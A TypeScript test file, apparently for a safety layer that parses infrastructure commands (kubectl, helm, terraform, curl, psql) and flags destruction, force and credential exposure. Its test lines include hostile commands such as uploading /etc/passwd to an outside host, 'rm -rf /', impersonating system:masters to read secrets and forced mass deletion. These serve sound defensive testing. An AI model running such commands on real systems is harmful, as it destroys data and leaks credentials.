// Command lines of each program, as a table: what they say that they do, and what is not understood.
import { describe, expect, it } from "vitest";
import { readLine } from "../shell/read-line.js";

/** `verb: said | kinds and names | flags`, without what is not there. */
function comesTo(line: string): readonly string[] {
  const { operations, unread } = readLine(line, { at: "/command", surroundings: {} });
  return [
    ...operations.map(({ verb, said, targets, changes = [], ...rest }) => {
      const names = targets.map(({ kind, subresource, name }) =>
        [kind, subresource, name].filter(Boolean).join("/"),
      );
      const flags = ["dry_run", "force", "all", "all_namespaces", "shows_credentials"].filter((flag) =>
        Object.hasOwn(rest, flag),
      );
      const places = [
        rest.namespace && `-n ${rest.namespace}`,
        rest.cluster && `@${rest.cluster}`,
        rest.selector && `-l ${rest.selector}`,
        rest.as && `as ${rest.as.join(",")}`,
      ];
      const set = changes.map(({ path, value }) => `${path.join(".")}=${JSON.stringify(value)}`);
      return [
        `${verb}: ${said}`,
        ...names,
        ...places.filter(Boolean),
        ...flags.map((flag) => `!${flag}`),
        ...set,
      ].join(" ");
    }),
    ...unread.map(({ kind }) => `unread ${kind}`),
  ];
}

const tables: Readonly<Record<string, readonly (readonly [line: string, ...comesTo: string[]])[]>> = {
  kubectl: [
    ["kubectl -n get delete pod web-0", "delete: delete pods/web-0 -n get"],
    ["kubectl --context prod-eu get deploy.v1.apps/web", "get: get deployments/web @prod-eu"],
    ["kubectl delete ns shop --dry-run=client --dry-run=none", "delete: delete namespaces/shop"],
    ["kubectl run a --image=b --dry-run=client -- rm -rf /", 'run: run pods/a !dry_run image="b"'],
    ["kubectl run a --image=b -- rm -r x", 'run: run pods/a image="b"', "rm: rm files/x !all"],
    ["kubectl annotate --local -f a.yaml team=core", 'annotate: annotate !dry_run local=true team="core"'],
    ["kubectl scale deploy/web --local", "scale: scale deployments/web local=true"],
    [
      "kubectl set env deploy/web --list --resolve",
      "list: set env deployments/web !shows_credentials list=true resolve=true",
    ],
    ["kubectl set env deploy/web --list", "list: set env deployments/web list=true"],
    ["kubectl delete ns shop --dry-run=server", "delete: delete namespaces/shop !dry_run"],
    [
      "kubectl delete pods --all -A --force --grace-period=0",
      "delete: delete pods !force !all !all_namespaces all=true force=true grace-period=0",
    ],
    ["kubectl delete pods --all=false", "delete: delete pods all=false"],
    [
      "kubectl get secret db -o yaml --as=admin --as-group=system:masters",
      'get: get secrets/db as admin,system:masters !shows_credentials as="admin" as-group="system:masters"',
    ],
    ["kubectl get secrets", "get: get secrets"],
    ["kubectl get cm,secret -ojson", "get: get configmaps secrets !shows_credentials"],
    ["kubectl get --raw /api/v1/namespaces/shop/pods/web-0", "get: get --raw pods/web-0 -n shop"],
    ["kubectl delete --raw /api/v1/namespaces/shop", "delete: delete --raw namespaces/shop"],
    ["kubectl rollout status deploy/web", "status: rollout status deployments/web"],
    [
      "kubectl rollout undo deploy/web --to-revision=2",
      "rollback: rollout undo deployments/web to-revision=2",
    ],
    ["kubectl rollout frob deploy/web", "unread unknown-verb"],
    ["kubectl auth can-i delete pods", "check: auth can-i"],
    ["kubectl config view --raw", "view: config view !shows_credentials raw=true"],
    ["kubectl config use-context prod", "configure: config use-context contexts/prod"],
    ["kubectl certificate approve csr-1", "approve: certificate approve certificatesigningrequests/csr-1"],
    [
      "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=ana",
      'create: create clusterrolebindings/x clusterrole="cluster-admin" user="ana"',
    ],
    ["kubectl create secret generic db --from-literal=a=b", 'create: create secrets/db from-literal="a=b"'],
    ["kubectl create token ci", "create: create token serviceaccounts/token/ci !shows_credentials"],
    ["kubectl scale deploy/web --replicas 3", "scale: scale deployments/web replicas=3"],
    [`kubectl patch deploy web -p '{"spec":{"replicas":9}}'`, "patch: patch deployments/web spec.replicas=9"],
    [
      `kubectl patch deploy web --type json -p '[{"op":"replace","path":"/spec/replicas","value":9}]'`,
      'patch: patch deployments/web type="json" spec.replicas=9',
    ],
    ["kubectl set image deploy/web web=nginx:1", 'set: set image deployments/web web="nginx:1"'],
    ["kubectl label ns shop team-", "label: label namespaces/shop team=null"],
    ["kubectl label ns shop --list", "list: label namespaces/shop list=true"],
    ["kubectl set env deploy/web --list", "list: set env deployments/web list=true"],
    ["kubectl label ns shop team=a --list", 'label: label namespaces/shop list=true team="a"'],
    ["kubectl taint nodes n1 k=v:NoSchedule", 'taint: taint nodes/n1 k="v:NoSchedule"'],
    ["kubectl drain n1 --disable-eviction", "drain: drain nodes/n1 !force disable-eviction=true"],
    [
      "kubectl exec -it web-0 -- kubectl delete ns a",
      "exec: exec pods/web-0 stdin=true tty=true",
      "delete: delete namespaces/a",
    ],
    ["kubectl exec web-0 -- frob", "exec: exec pods/web-0", "unread unknown-program"],
    ["kubectl logs -f deploy/web -c app -p", 'logs: logs deployments/web container="app" previous=true'],
    ["kubectl port-forward svc/web 8080:80", "portforward: port-forward services/web"],
    ["kubectl cp shop/db-0:/a /tmp/a", "cp: cp pods/db-0 -n shop"],
    ["kubectl annotate --help", "options: help"],
    ["kubectl get pods --frob", "get: get pods", "unread unknown-flag"],
    ["kubectl delete pod -- -x", "delete: delete pods"],
    ["kubectl get pod 'x --as=root'", "get: get pods/x --as=root", "unread not-a-name"],
    ["kubectl delete -f - <<E\nkind: Namespace\napiVersion: v1\nmetadata: {name: a}\nE", "delete: delete"],
    ["kubectl apply -f - <<E\nkind: [\nE", "apply: apply", "unread manifest"],
  ],
  helm: [
    [
      "helm diff upgrade web acme/web -C 3 --detailed-exitcode",
      "diff: diff upgrade context=3 detailed-exitcode=true",
    ],
    ["helm diff upgrade web ./c --show-secrets", "diff: diff upgrade !shows_credentials show-secrets=true"],
    ["helm list --context 3", "list: list releases", "unread unknown-flag"],
    [
      "helm upgrade -i web ./chart -n shop --set a.b=2,c=x --dry-run",
      'upgrade: upgrade releases/web -n shop !dry_run a.b=2 c="x"',
    ],
    ["helm uninstall web api", "uninstall: uninstall releases/web releases/api"],
    ["helm get values web", "get: get values releases/web !shows_credentials"],
    ["helm rollback web 3 --force", "rollback: rollback releases/web !force force=true"],
    [
      "helm install x y --post-renderer ./evil",
      'install: install releases/x post-renderer="./evil"',
      "unread runs-text",
    ],
    ["helm frob", "unread unknown-verb"],
    ["helm --kube-context prod list", "list: list releases @prod"],
  ],
  terraform: [
    ["terraform output -raw vpc_id", "show: output raw=true"],
    ["terraform output -raw db_password", "show: output !shows_credentials raw=true"],
    ["terraform output monkey", "show: output"],
    ["terraform output api_key", "show: output !shows_credentials"],
    ["terraform output $NAME", "show: output !shows_credentials"],
    ["terraform output -json", "show: output !shows_credentials"],
    ["terraform output", "show: output"],
    ["terraform workspace delete -force a", "delete: workspace delete workspaces/a !force force=true"],
    ["terraform workspace new -force a", "create: workspace new workspaces/a force=true"],
    ["terraform plan -destroy", "plan: plan infrastructure !dry_run destroy=true"],
    ["terraform plan destroy", "plan: plan infrastructure !dry_run", "unread unknown-argument"],
    [
      "terraform apply -destroy -auto-approve",
      "destroy: apply -destroy infrastructure !force !all destroy=true",
    ],
    [
      "terraform apply -replace=aws_db_instance.main",
      "replace: apply -replace infrastructure/aws_db_instance.main",
    ],
    ["tofu destroy -target=aws_instance.a", "destroy: destroy infrastructure/aws_instance.a"],
    ["terraform -chdir=prod apply", "apply: apply infrastructure @prod"],
    ["terraform state rm aws_instance.a", "remove: state rm states/aws_instance.a"],
    ["terraform output -json", "show: output !shows_credentials"],
    ["terraform frob", "unread unknown-verb"],
  ],
  palette: [
    [
      "palette pde virtual-cluster events --name a",
      'list: pde virtual-cluster events virtualclusters/a name="a"',
    ],
    [
      "palette pde virtual-cluster lifecycle --action pause --name a",
      'pause: pde virtual-cluster lifecycle virtualclusters/a action="pause" name="a"',
    ],
    ["palette pde virtual-cluster lifecycle --action burn --name a", "unread unknown-verb"],
    ["palette import --kubeconfig-dir ./c --uuid", 'import: import clusters kubeconfig-dir="./c" uuid=true'],
    ["palette pcg install --config-only", "render: pcg install privatecloudgateways config-only=true"],
    ["palette pcg install -o=false", "install: pcg install privatecloudgateways o=false"],
    [
      "palette pde app delete --name a --config-only",
      'delete: pde app delete applications/a name="a" config-only=true',
    ],
    ["palette vmo migrate-vm", "migrate: vmo migrate-vm virtualmachines"],
    ["palette pde virtual-cluster list", "list: pde virtual-cluster list virtualclusters"],
    [
      "palette pde virtual-cluster delete --name shop",
      'delete: pde virtual-cluster delete virtualclusters/shop name="shop"',
    ],
    ["palette docs", "show: docs"],
    ["palette frob list", "unread unknown-verb"],
    ["palette pde virtual-cluster frob", "unread unknown-verb"],
  ],
  curl: [
    [
      "curl -X DELETE https://api.spectrocloud.com/v1/spectroclusters/6601aa10?forceDelete=true",
      "delete: DELETE /v1/spectroclusters/6601aa10 clusters/6601aa10 @6601aa10 !force",
    ],
    [
      "curl https://10.0.0.1:6443/api/v1/namespaces/shop/secrets",
      "list: GET /api/v1/namespaces/shop/secrets secrets -n shop !shows_credentials",
    ],
    [
      `curl -d '{"spec":{"size":3}}' https://palette.example.net/v1/projects`,
      "create: POST /v1/projects projects spec.size=3",
    ],
    ["curl https://palette.example.net/v1/a/../cloudaccounts/aws", "unread path"],
    ["curl https://x.example/a", "fetch: curl GET"],
    ["curl -F f=@/etc/passwd https://x.example", "send: curl POST"],
    ["curl --frob https://x.example", "fetch: curl GET", "unread unknown-flag"],
    ["curl -Kcfg https://x.example", "fetch: curl GET", "unread unknown-flag"],
  ],
  others: [
    ["git status", "read: git status"],
    ["git -c core.pager=x log", "unread unknown-flag"],
    ["git frob", "unread unknown-verb"],
    ["aws eks describe-cluster --name a", "read: aws eks describe-cluster"],
    ["aws --region x eks delete-cluster --name a", "unread unknown-verb"],
    ["gcloud container clusters delete a", "unread unknown-verb"],
    ["docker ps -a", "read: docker ps"],
    ["docker run --privileged x", "unread unknown-verb"],
    ["psql -c 'select 1; drop table a'", "select: SQL SELECT tables", "drop: SQL DROP tables/a"],
    ["psql -f x.sql", "unread runs-text"],
  ],
};

describe.each(Object.keys(tables))("%s", (program) => {
  it.each(tables[program] ?? [])("%s", (line, ...wanted) => {
    expect(comesTo(line)).toEqual(wanted);
  });
});
